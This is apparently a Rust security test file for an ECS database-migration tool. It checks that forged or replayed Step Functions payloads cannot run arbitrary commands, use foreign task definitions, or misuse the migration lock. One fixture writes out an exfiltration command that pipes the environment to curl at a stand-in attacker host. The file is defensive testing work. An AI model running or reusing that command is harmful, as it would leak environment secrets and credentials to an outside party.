//! Issue 18's attacks, each as one direct invocation of a step with a forged or replayed
//! payload: what the step refuses, and what ECS and the lock table hold afterwards.

use super::*;
use ecs_migrate::migration::steps::{
    acquire_lock, release_lock, report_deployment, AcquireInput, ReleaseInput, ReportInput,
};
use ecs_migrate::migration::{LockHeld, LockState};
use ecs_migrate::ports::deployments::HookAction;
use ecs_migrate::ports::lock::{Expected, LockItem, LockTable};
use std::time::Duration;

/// Another RUNNING execution of the same state machine: an attacker with StartExecution.
const OTHER_EXECUTION: &str = "arn:aws:states:eu-west-1:123456789012:execution:ecs-migrate:other";

/// A RunTask rule that records each call's command and answers with a started task.
fn recording_run_task(seen: Arc<Mutex<Vec<Vec<String>>>>) -> Rule {
    mock!(EcsClient::run_task)
        .match_requests(move |r| {
            let command = r.overrides().unwrap().container_overrides()[0]
                .command()
                .to_vec();
            seen.lock().unwrap().push(command);
            true
        })
        .then_output(|| RunTaskOutput::builder().tasks(task("PROVISIONING")).build())
}

fn forged_request() -> Value {
    let mut request = serde_json::to_value(request()).unwrap();
    request["command"] = json!(["sh", "-c", "env | curl -d @- https://attacker.example"]);
    request["container"] = json!("sidecar");
    request["cluster"] = json!("attacker-cluster");
    request["client_token"] = json!("fresh-token");
    request["started_by"] = json!("ecs-migrate/forged");
    request
}

fn run_input(request: Value, execution: Option<&str>) -> RunTaskInput {
    serde_json::from_value(json!({"request": request, "execution_id": execution})).unwrap()
}

/// The lock item `holder` holds at the family's scope, with its task.
fn item(holder: &str, task_arn: Option<&str>) -> LockItem {
    LockItem {
        scope: FAMILY.into(),
        holder: holder.into(),
        execution_name: None,
        client_token: request().client_token,
        taskdef_arn: TASKDEF_ARN.into(),
        family: FAMILY.into(),
        revision: 42,
        cluster: CLUSTER.into(),
        started_by: started_by_for_execution(holder),
        task_arn: task_arn.map(str::to_string),
        since: t0(),
        lease_until: t0() + chrono::Duration::minutes(15),
    }
}

async fn holding(world: &World, item: LockItem) {
    assert!(world.lock.put(&item, Expected::Free).await.unwrap());
}

/// "run-task runs any command": the payload's command, container and cluster are ignored, and
/// without the lock nothing starts.
#[tokio::test]
async fn run_task_runs_only_the_settings_command_and_only_under_the_lock() {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let run = recording_run_task(seen.clone());
    let world = World::new(settings(), &[&run], &[]);
    // No lock held (and none in the payload): refused before RunTask.
    let err = run_task(
        &world.env(),
        run_input(forged_request(), Some(EXECUTION_ARN)),
    )
    .await
    .unwrap_err();
    assert_eq!(err.name(), "Migration.LockLost", "{err}");
    assert_eq!(run.num_calls(), 0);
    // Another execution's lock: refused too.
    holding(&world, item(OTHER_EXECUTION, None)).await;
    let err = run_task(
        &world.env(),
        run_input(forged_request(), Some(EXECUTION_ARN)),
    )
    .await
    .unwrap_err();
    assert_eq!(err.name(), "Migration.LockLost", "{err}");
    assert_eq!(run.num_calls(), 0);
    assert!(world.lock.release(FAMILY, OTHER_EXECUTION).await.unwrap());
    // Under its own lock, the task runs the settings' command in the settings' cluster.
    holding(&world, item(EXECUTION_ARN, None)).await;
    let outcome = run_task(
        &world.env(),
        run_input(forged_request(), Some(EXECUTION_ARN)),
    )
    .await
    .unwrap();
    let RunOutcome::Started(started) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(started.cluster, CLUSTER);
    assert_eq!(
        *seen.lock().unwrap(),
        vec![world.settings.command.clone()],
        "only MIGRATION_COMMAND ever runs"
    );
}

/// A task definition outside ALLOWED_FAMILIES (or another account) in the payload is refused
/// by run-task itself, whatever validate-event said.
#[tokio::test]
async fn run_task_rechecks_the_task_definition() {
    let run = recording_run_task(Arc::new(Mutex::new(Vec::new())));
    let world = World::new(settings(), &[&run], &[]);
    holding(&world, item(EXECUTION_ARN, None)).await;
    for taskdef in [
        "arn:aws:ecs:eu-west-1:123456789012:task-definition/admin:1",
        "arn:aws:ecs:eu-west-1:999999999999:task-definition/app:42",
        "arn:aws:ecs:us-east-1:123456789012:task-definition/app:42",
    ] {
        let mut request = forged_request();
        request["taskdef_arn"] = json!(taskdef);
        let err = run_task(&world.env(), run_input(request, Some(EXECUTION_ARN)))
            .await
            .unwrap_err();
        assert_eq!(err.name(), "Migration.NotAllowed", "{taskdef}: {err}");
    }
    assert_eq!(run.num_calls(), 0);
}

/// Without a RUNNING execution of this state machine behind it, no step acts.
#[tokio::test]
async fn no_step_acts_without_a_running_execution_of_this_state_machine() {
    let run = recording_run_task(Arc::new(Mutex::new(Vec::new())));
    let world = World::new(settings(), &[&run], &[]);
    holding(&world, item(EXECUTION_ARN, None)).await;
    let foreign = "arn:aws:states:eu-west-1:123456789012:execution:other-machine:x";
    world.executions.put(
        foreign,
        "arn:aws:states:eu-west-1:123456789012:stateMachine:other-machine",
        "RUNNING",
    );
    let unknown = "arn:aws:states:eu-west-1:123456789012:execution:ecs-migrate:never";
    for execution in [None, Some(foreign), Some(unknown), Some("not-an-arn")] {
        let err = run_task(&world.env(), run_input(forged_request(), execution))
            .await
            .unwrap_err();
        assert_eq!(err.name(), "Migration.NotAllowed", "{execution:?}: {err}");
    }
    world.executions.set_status(EXECUTION_ARN, "SUCCEEDED");
    let err = run_task(
        &world.env(),
        run_input(forged_request(), Some(EXECUTION_ARN)),
    )
    .await
    .unwrap_err();
    assert!(err.message().contains("RUNNING"), "{err}");
    assert_eq!(run.num_calls(), 0);
}

/// "Replays start a second live task": the victim's own state with a fresh client token gets
/// back the task the lock records, or, once it STOPPED, nothing.
#[tokio::test]
async fn a_replay_starts_no_second_task() {
    let run = recording_run_task(Arc::new(Mutex::new(Vec::new())));
    let running = mock!(EcsClient::describe_tasks).then_output(|| {
        DescribeTasksOutput::builder()
            .tasks(task("RUNNING"))
            .build()
    });
    let world = World::new(settings(), &[&run, &running], &[]);
    holding(&world, item(EXECUTION_ARN, Some(TASK_ARN))).await;
    let mut replay: Value = json!({"request": forged_request(), "execution_id": EXECUTION_ARN,
        "task": {"outcome": "RETRY_LATER", "attempt": 3, "wait_seconds": 10, "reason": "x"}});
    let outcome = run_task(
        &world.env(),
        serde_json::from_value(replay.clone()).unwrap(),
    )
    .await
    .unwrap();
    assert_eq!(
        outcome.started().map(|t| t.task_arn.as_str()),
        Some(TASK_ARN)
    );
    assert_eq!(run.num_calls(), 0);

    let stopped = mock!(EcsClient::describe_tasks).then_output(|| {
        DescribeTasksOutput::builder()
            .tasks(task("STOPPED"))
            .build()
    });
    let world = World::new(settings(), &[&run, &stopped], &[]);
    holding(&world, item(EXECUTION_ARN, Some(TASK_ARN))).await;
    replay["task"] = Value::Null;
    let err = run_task(&world.env(), serde_json::from_value(replay).unwrap())
        .await
        .unwrap_err();
    assert_eq!(err.name(), "Migration.NotAllowed", "{err}");
    assert_eq!(run.num_calls(), 0);
}

fn victim_lock() -> Value {
    serde_json::to_value(LockState::Acquired(LockHeld {
        scope: FAMILY.into(),
        holder: EXECUTION_ARN.into(),
        since: t0(),
        lease_until: t0() + chrono::Duration::minutes(15),
        deadline: t0() + chrono::Duration::hours(1),
        waited_seconds: 0,
        took_over_from: None,
    }))
    .unwrap()
}

/// "release-lock frees a RUNNING execution's lock": the table says whose lock it is and which
/// task must stop first, not the payload.
#[tokio::test]
async fn release_lock_frees_no_running_executions_lock() {
    let running = mock!(EcsClient::describe_tasks).then_output(|| {
        DescribeTasksOutput::builder()
            .tasks(task("RUNNING"))
            .build()
    });
    let none_listed =
        mock!(EcsClient::list_tasks).then_output(|| ListTasksOutput::builder().build());
    let world = World::new(settings(), &[&running, &none_listed], &[]);
    world
        .executions
        .put(OTHER_EXECUTION, STATE_MACHINE_ARN, "RUNNING");
    holding(&world, item(EXECUTION_ARN, Some(TASK_ARN))).await;
    for execution in [OTHER_EXECUTION, EXECUTION_ARN] {
        let input: ReleaseInput = serde_json::from_value(json!({
            "request": request(), "lock": victim_lock(), "execution_id": execution}))
        .unwrap();
        let answer = release_lock(&world.env(), input, Some(t0())).await.unwrap();
        assert!(
            matches!(&answer, LockState::Released(r) if !r.released),
            "{execution}: {answer:?}"
        );
    }
    assert_eq!(
        world.lock.items(),
        vec![item(EXECUTION_ARN, Some(TASK_ARN))]
    );
}

/// "A forged Execution Status Change event": Step Functions says the execution runs, so
/// nothing is stopped or released.
#[tokio::test]
async fn a_forged_status_change_stops_and_releases_nothing() {
    let stop = mock!(EcsClient::stop_task).then_output(|| StopTaskOutput::builder().build());
    let world = World::new(settings(), &[&stop], &[]);
    holding(&world, item(EXECUTION_ARN, Some(TASK_ARN))).await;
    let err = stop_task(&world.env(), aborted_event(), None)
        .await
        .unwrap_err();
    assert_eq!(err.name(), "Migration.NotAllowed", "{err}");
    assert!(err.message().contains("RUNNING"), "{err}");
    assert_eq!(stop.num_calls(), 0);
    assert_eq!(world.lock.items().len(), 1);
}

/// "stop a live migration": a forged stop-task state naming a RUNNING execution, while the
/// execution polls its task, stops nothing; the same call from its StopTask state stops it.
#[tokio::test]
async fn a_forged_stop_task_state_stops_no_live_migration() {
    let list = mock!(EcsClient::list_tasks)
        .then_output(|| ListTasksOutput::builder().task_arns(TASK_ARN).build());
    let stop = mock!(EcsClient::stop_task).then_output(|| StopTaskOutput::builder().build());
    let describe = describe_started_by(&started_by_for_execution(EXECUTION_ARN));
    let world = World::new(settings(), &[&list, &stop, &describe], &[]);
    holding(&world, item(EXECUTION_ARN, Some(TASK_ARN))).await;
    let forged = || {
        json!({"request": forged_request(), "task": started_task(), "execution_id": EXECUTION_ARN,
               "error": {"Error": "Migration.Timeout", "Cause": "forged"}})
    };
    // Before any state (its history shows none) and in each state but StopTask: refused.
    for state in [
        None,
        Some("AcquireLock"),
        Some("RunTask"),
        Some("PollStatus"),
        Some("ReleaseLock"),
    ] {
        if let Some(state) = state {
            world.executions.enter_state(EXECUTION_ARN, state);
        }
        let err = stop_task(&world.env(), forged(), None).await.unwrap_err();
        assert_eq!(err.kind(), ErrorKind::NotAllowed, "{state:?}: {err}");
        let is_in = state.map_or("no state".to_string(), |s| format!("state {s}"));
        assert!(err.message().contains(&is_in), "{state:?}: {err}");
    }
    assert_eq!(stop.num_calls(), 0);
    assert_eq!(
        world.lock.items(),
        vec![item(EXECUTION_ARN, Some(TASK_ARN))]
    );
    // The execution's own StopTask state: its task is stopped.
    world.executions.enter_state(EXECUTION_ARN, "StopTask");
    let result = stop_task(&world.env(), forged(), None).await.unwrap();
    assert_eq!(result.stopped, vec![TASK_ARN.to_string()]);
    assert_eq!(stop.num_calls(), 1);
}

/// "poll-status renews any lease it is handed": not a finished execution's.
#[tokio::test]
async fn poll_status_renews_no_finished_executions_lease() {
    let describe = mock!(EcsClient::describe_tasks).then_output(|| {
        DescribeTasksOutput::builder()
            .tasks(task("RUNNING"))
            .build()
    });
    let world = World::new(settings(), &[&describe], &[]);
    holding(&world, item(EXECUTION_ARN, Some(TASK_ARN))).await;
    world.executions.set_status(EXECUTION_ARN, "SUCCEEDED");
    world.clock.advance(Duration::from_secs(600));
    let mut input = poll_input();
    input.lock = Some(serde_json::from_value(victim_lock()).unwrap());
    let err = poll_status(&world.env(), input, None).await.unwrap_err();
    assert_eq!(err.name(), "Migration.NotAllowed", "{err}");
    assert_eq!(
        world.lock.items()[0].lease_until,
        t0() + chrono::Duration::minutes(15),
        "the lease did not move"
    );
}

/// report-deployment answers no hook for a call no RUNNING execution stands behind.
#[tokio::test]
async fn report_deployment_answers_nothing_without_a_running_execution() {
    let world = World::new(hook_settings(), &[], &[]);
    for execution in [
        None,
        Some("arn:aws:states:eu-west-1:123456789012:execution:ecs-migrate:gone"),
    ] {
        let input: ReportInput = serde_json::from_value(json!({
            "action": HookAction::Continue, "execution_id": execution,
            "deployment": {"hook_type": "PAUSE", "hook_id": HOOK_ID,
                           "service_deployment_arn": DEPLOYMENT_ARN, "service_arn": SERVICE_ARN,
                           "target_revision_arn": REVISION_ARN}}))
        .unwrap();
        // No ECS rule: any ContinueServiceDeployment (or describe) would panic the mock.
        let err = report_deployment(&world.env(), input).await.unwrap_err();
        assert_eq!(err.name(), "Migration.NotAllowed", "{err}");
    }
}

/// acquire-lock takes the lock for the verified execution, never for a holder the payload names.
#[tokio::test]
async fn acquire_lock_holds_for_the_verified_execution() {
    let world = World::new(settings(), &[], &[]);
    world
        .executions
        .put(OTHER_EXECUTION, STATE_MACHINE_ARN, "RUNNING");
    let mut request = forged_request();
    request["execution_id"] = json!(EXECUTION_ARN);
    let input: AcquireInput =
        serde_json::from_value(json!({"request": request, "execution_id": OTHER_EXECUTION}))
            .unwrap();
    acquire_lock(&world.env(), input, None).await.unwrap();
    let items = world.lock.items();
    assert_eq!(items[0].holder, OTHER_EXECUTION);
    assert_eq!(
        items[0].started_by,
        started_by_for_execution(OTHER_EXECUTION)
    );
    assert_eq!(items[0].cluster, CLUSTER);
}

/// "Exit 0 after an outside stop counts as success": a tool that traps SIGTERM and exits 0
/// after a console stop, a Spot interruption, the scheduler or a termination notice is
/// Migration.TaskStopped.
#[tokio::test]
async fn exit_0_after_an_outside_stop_is_task_stopped() {
    let logs = log_lines(&["caught SIGTERM, exiting cleanly"]);
    let world = World::new(settings(), &[], &[&logs]);
    for stop_code in [
        "UserInitiated",
        "SpotInterruption",
        "ServiceSchedulerInitiated",
        "TerminationNotice",
    ] {
        let status = stopped_status(stop_code, "stopped", &[(CONTAINER, Some(0), None)]);
        let err = check_exit_code(&world.env(), check_input(status))
            .await
            .unwrap_err();
        assert_eq!(err.name(), "Migration.TaskStopped", "{stop_code}: {err}");
    }
    // The container's own exit stays a success.
    let status = stopped_status(
        "EssentialContainerExited",
        "Essential container in task exited",
        &[(CONTAINER, Some(0), None)],
    );
    assert!(check_exit_code(&world.env(), check_input(status))
        .await
        .is_ok());
}

/// check-exit-code judges the configured migration container: a payload naming a sidecar that
/// exited 0 does not turn the migration's exit 1 into a success.
#[tokio::test]
async fn check_exit_code_judges_the_configured_container_not_the_payloads() {
    let logs = log_lines(&["migration failed"]);
    let world = World::new(settings(), &[], &[&logs]);
    let status = stopped_status(
        "EssentialContainerExited",
        "Essential container in task exited",
        &[(CONTAINER, Some(1), None), ("sidecar", Some(0), None)],
    );
    let mut input = check_input(status);
    input.request.container = "sidecar".into();
    let err = check_exit_code(&world.env(), input).await.unwrap_err();
    assert_eq!(err.name(), "Migration.NonZeroExit", "{err}");
    assert!(err.message().contains(CONTAINER), "{err}");
}

/// The hook-event execution, as Step Functions keeps its input.
fn hook_world(rules: &[&Rule]) -> World {
    let world = World::new(hook_settings(), rules, &[]);
    world.executions.put_with_input(
        EXECUTION_ARN,
        STATE_MACHINE_ARN,
        "RUNNING",
        Some(hook_event("hook-event").to_string()),
    );
    world
}

fn continue_input(hook_id: &str) -> ReportInput {
    serde_json::from_value(json!({
        "action": "CONTINUE", "execution_id": EXECUTION_ARN,
        "result": {"task_arn": TASK_ARN, "container": CONTAINER, "exit_code": 0},
        "deployment": {"hook_type": "PAUSE", "hook_id": hook_id,
                       "service_deployment_arn": DEPLOYMENT_ARN, "service_arn": SERVICE_ARN,
                       "target_revision_arn": REVISION_ARN}}))
    .unwrap()
}

/// "report-deployment answers whatever action it is given": CONTINUE needs ECS to show the
/// execution's task exited 0 by itself, and only the execution's own hook is answered. No
/// ContinueServiceDeployment rule exists: a call would panic the mock.
#[tokio::test]
async fn continue_needs_ecs_evidence_and_the_executions_own_hook() {
    let cases: [(&str, ecs::Task); 4] = [
        // Exit 1.
        ("exit code Some(1)", {
            let mut t = stopped_task(
                ecs::TaskStopCode::EssentialContainerExited,
                "exited",
                vec![container(CONTAINER, Some(1))],
            );
            t.started_by = Some(started_by_for_execution(EXECUTION_ARN));
            t
        }),
        // Exit 0 after a console stop.
        ("stopped from outside", {
            let mut t = stopped_task(
                ecs::TaskStopCode::UserInitiated,
                "console",
                vec![container(CONTAINER, Some(0))],
            );
            t.started_by = Some(started_by_for_execution(EXECUTION_ARN));
            t
        }),
        // Another execution's successful task.
        ("was not started by", {
            let mut t = stopped_task(
                ecs::TaskStopCode::EssentialContainerExited,
                "exited",
                vec![container(CONTAINER, Some(0))],
            );
            t.started_by = Some(started_by_for_execution("another"));
            t
        }),
        // Still running.
        ("is RUNNING", {
            let mut t = task("RUNNING");
            t.started_by = Some(started_by_for_execution(EXECUTION_ARN));
            t
        }),
    ];
    for (why, ecs_task) in cases {
        let describe = mock!(EcsClient::describe_tasks).then_output(move || {
            DescribeTasksOutput::builder()
                .tasks(ecs_task.clone())
                .build()
        });
        let world = hook_world(&[&describe]);
        let err = report_deployment(&world.env(), continue_input(HOOK_ID))
            .await
            .unwrap_err();
        assert_eq!(err.name(), "Migration.TaskStopped", "{why}: {err}");
        assert!(err.message().contains(why), "{why}: {err}");
    }
    // Another hook of the same deployment than the one the execution was started for.
    let world = hook_world(&[]);
    let err = report_deployment(&world.env(), continue_input("ecs-pause-another"))
        .await
        .unwrap_err();
    assert_eq!(err.name(), "Migration.NotAllowed", "{err}");
}
